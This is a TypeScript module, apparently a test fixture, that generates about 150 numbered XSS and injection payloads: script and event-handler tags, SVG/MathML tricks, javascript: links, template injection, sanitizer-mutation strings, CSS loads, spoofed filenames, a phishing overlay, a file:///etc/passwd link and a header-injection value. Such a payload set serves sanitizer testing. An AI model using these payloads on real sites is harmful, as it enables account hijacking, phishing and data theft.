/** Words as an attacker writes them, wherever words can be written. */
export interface HostileWords {
  /** Their place in the list, which their marks tell of. */
  readonly number: number;
  readonly kind: Kind;
  readonly text: string;
}
type Kind = keyof typeof writers;

/** `run` is a call that shows that it ran; `at` is an address that nothing may ask. */
type Writer = (run: string, at: string) => readonly string[];

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const codes = (text: string, write: (code: number) => string): string =>
  [...text].map((sign) => write(sign.codePointAt(0) ?? 0)).join('');

const writers = {
  tags: (run, at) => [
    `<script>${run}</script>`,
    `<ScRiPt>${run}</sCrIpT>`,
    `<script src=${at}/js></script>`,
    `<script/x>${run}</script >`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `"><script>${run}</script>`,
    `'></title></textarea></style></noscript><script>${run}</script>`,
    `</script><script>${run}</script>`,
    `<!--><script>${run}</script>-->`,
    `<script type=module>${run}</script>`,
    `<script>\n//${'x'.repeat(60)}\n${run}\n</script>`,
    `<iframe src="javascript:parent.${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<iframe src="${at}/frame"></iframe>`,
    `<object data="${at}/object"></object>`,
    `<embed src="${at}/embed">`,
    `<base href="${at}/base/">`,
    `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
    `<meta http-equiv="refresh" content="0;url=${at}/refresh">`,
    `<link rel=stylesheet href=${at}/css>`,
    `<link rel=prefetch href="${at}/prefetch"><link rel=preconnect href="${at}/preconnect">`,
    `<form action="${at}/form"><input name=password type=password><button autofocus>Sign in</button></form>`,
    `<portal src="${at}/portal"></portal><fencedframe src="${at}/fenced"></fencedframe>`,
  ],
  handlers: (run, at) => [
    `<img src=x onerror=${run}>`,
    `<img src=x onerror="${run}"`,
    `<img src="x"/onerror=${run}//`,
    `<IMG SRC=x OnErRoR=${run}>`,
    `<img\tsrc=x\nonerror=${run}>`,
    `<img/src='x'onerror=${run}>`,
    `<img src=x onerror\u000c=${run}>`,
    `"><img src=x onerror=${run}>`,
    `' onerror='${run}' src='x`,
    `" autofocus onfocus="${run}" x="`,
    `' autofocus onfocus=${run} '`,
    `" style="animation:x" onanimationstart="${run}`,
    `<input autofocus onfocus=${run}>`,
    `<details open ontoggle=${run}>x</details>`,
    `<body onload=${run}>`,
    `<body onpageshow=${run}>`,
    `<video src=x onerror=${run}></video>`,
    `<video><source onerror=${run}></video>`,
    `<audio src=x onerror=${run}></audio>`,
    `<marquee onstart=${run}>x</marquee>`,
    `<iframe onload=parent.${run}></iframe>`,
    `<style onload=${run}></style>`,
    `<link rel=stylesheet href=data:text/css, onload=${run}>`,
    `<object data=data:text/html,x onload=${run}></object>`,
    `<select autofocus onfocus=${run}><option>x</select>`,
    `<div tabindex=0 autofocus onfocus=${run}>x</div>`,
    `<p contenteditable autofocus onfocusin=${run}>x</p>`,
    `<input type=image src=x onerror=${run}>`,
    `<img src="${at}/img" onload=${run}>`,
    `<img srcset="${at}/srcset 1x"><picture><source srcset="${at}/source"><img></picture>`,
    `<video poster="${at}/poster"></video><input type=image src="${at}/input">`,
    `<div popover id=p onbeforetoggle=${run}>x</div><button popovertarget=p autofocus>x</button>`,
  ],
  drawings: (run, at) => [
    `<svg onload=${run}>`,
    `<svg/onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><script href="data:text/javascript,${run}"/></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><set onbegin=${run} attributeName=x to=y>`,
    `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
    `<svg><use href="${at}/use#x"/></svg>`,
    `<svg><image href="${at}/image"/></svg>`,
    `<svg><style>@import url(${at}/svgcss);</style></svg>`,
    `<svg><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${run}"/></foreignObject></svg>`,
    `<svg><filter id=f><feImage href="${at}/fe"/></filter></svg>`,
    `<math href="javascript:${run}">x</math>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
    `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  ],
  links: (run, at) => [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `java\nscript:${run}`,
    ` \u0001javascript:${run}`,
    `javascript://%0a${run}`,
    `javascript:/*--></title></style></textarea></script>*/${run}`,
    `javascript&colon;${run}`,
    `&#106;avascript:${run}`,
    `javascript\u003a${run}`,
    `data:text/html,<script>${run}</script>`,
    `data:text/html;base64,${b64(`<script>${run}</script>`)}`,
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
    `vbscript:${run}`,
    `blob:${at}/blob`,
    `filesystem:${at}/file`,
    `file:///etc/passwd`,
    `view-source:javascript:${run}`,
    `//${at.replace(/^https?:\/\//u, '')}/relative`,
    `/\\${at.replace(/^https?:\/\//u, '')}/relative`,
    `https://user:word@${at.replace(/^https?:\/\//u, '')}/?q="onmouseover="${run}`,
    `https://shop.example/"><img src=x onerror=${run}>`,
    `https://shop.example/'onmouseover='${run}' x='`,
    `https://shop.example/<script>${run}</script>`,
  ],
  templates: (run, at) => [
    `{{constructor.constructor('${run}')()}}`,
    `{{$on.constructor('${run}')()}}`,
    `\${${run}}`,
    `#{${run}}`,
    `<%= ${run} %>`,
    `{% raw %}${run}{% endraw %}`,
    `{{7*7}}[[7*7]]\${7*7}`,
    `$t(nav.inbox) {{count, number}} $t({{x}})`,
    `__proto__[innerHTML]=<img src=x onerror=${run}>`,
    `{"__html":"<img src=x onerror=${run}>"}`,
    `{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"${run}"}}`,
    `<div ng-app ng-csp>{{$eval.constructor('${run}')()}}</div><script src="${at}/ng"></script>`,
  ],
  mutations: (run, at) => [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<svg><style><img src=x onerror=${run}></style></svg>`,
    `<template><script>${run}</script><img src=x onerror=${run}></template>`,
    `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
    `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
    `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
    `<!--<img title="--!><img src=x onerror=${run}>">-->`,
    `<![CDATA[<img src=x onerror=${run}>]]><?xml <img src=x onerror=${run}>?>`,
    `<img name=body><form name=getElementById><input name=attributes><input id=innerHTML></form>`,
    `<a id=trustedTypes><a id=trustedTypes name=createPolicy href="${at}/clobbered">`,
    `<iframe name=alert></iframe><a id=root href="javascript:${run}"></a><div id=content></div>`,
  ],
  styles: (run, at) => [
    `<style>@import '${at}/import';*{background:url(${at}/style)}</style>`,
    `<p style="background:url(${at}/background)">x</p>`,
    `<p style="position:fixed;inset:0;z-index:9999;background:#fff">Signed out. <a href="${at}/phish">Sign in</a></p>`,
    `red;background-image:url(${at}/value)`,
    `x" style="width:expression(${run})`,
    `}</style><style>@font-face{font-family:x;src:url(${at}/font)}body{font-family:x}`,
    `<p style="list-style:url('${at}/list');content:url(${at}/content)">x</p>`,
  ],
  signs: (run, at) => [
    `\u202egpj.exe\u202c \u2066${run}\u2069`,
    `\u0000<img src=x onerror=${run}>`.replace('\u0000', '\ufffd'),
    `<\u200bscript>${run}</script>\u2028\u2029`,
    `\ufeff<img src=x onerror=${run}>`,
    `＜script＞${run}＜/script＞`,
    `${'e\u0301\u0323'.repeat(40)}<img src=x onerror=${run}>`,
    `\u001b]8;;${at}/terminal\u0007x\u001b]8;;\u0007`,
    `=HYPERLINK("${at}/sheet","x")`,
    `invoice.pdf\u202efdp.exe"; filename*=UTF-8''x.html\r\nSet-Cookie: a=b`,
  ],
  codes: (run, at) => [
    `&lt;img src=x onerror=${run}&gt;`,
    codes(`<img src=x onerror=${run}>`, (code) => `&#${String(code)};`),
    codes(`<img src=x onerror=${run}>`, (code) => `&#x${code.toString(16)}`),
    encodeURIComponent(`<img src=x onerror=${run}>`),
    codes(`<img src=x onerror=${run}>`, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
    `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `%253Cscript%253E${run}%253C/script%253E`,
    `[click](javascript:${run}) ![x](${at}/markdown) <javascript:${run}> [x]: javascript:${run}`,
    `![x" onerror="${run}](x) [a](<data:text/html,<script>${run}</script>>)`,
    '```html\n<img src=x onerror=' + `${run}>\n` + '```' + ` |<script>${run}</script>|`,
    `<http://a.example"onmouseover="${run}">`,
  ],
} satisfies Record<string, Writer>;

/** The call by which a payload shows that it ran. */
export const runs = 'ran';

/** A hundred and fifty payloads, each marked by its number and with addresses of its own below `listener`. */
export function hostileWords(listener: string): readonly HostileWords[] {
  const kinds = Object.keys(writers) as Kind[];
  const counts = kinds.map((kind) => writers[kind]('', '').length);
  const ends = counts.map((_, index) => counts.slice(0, index + 1).reduce((sum, count) => sum + count, 0));
  return kinds.flatMap((kind, place) => {
    const first = (ends[place] ?? 0) - (counts[place] ?? 0);
    return Array.from({ length: counts[place] ?? 0 }, (_, index) => {
      const number = first + index;
      const text = writers[kind](`${runs}(${String(number)})`, `${listener}/hit/${String(number)}`)[index] ?? '';
      return { number, kind, text };
    });
  });
}

/** Some twenty of them, of every kind. */
export function someWords(all: readonly HostileWords[]): readonly HostileWords[] {
  return all.filter(({ number }) => number % 7 === 0);
}
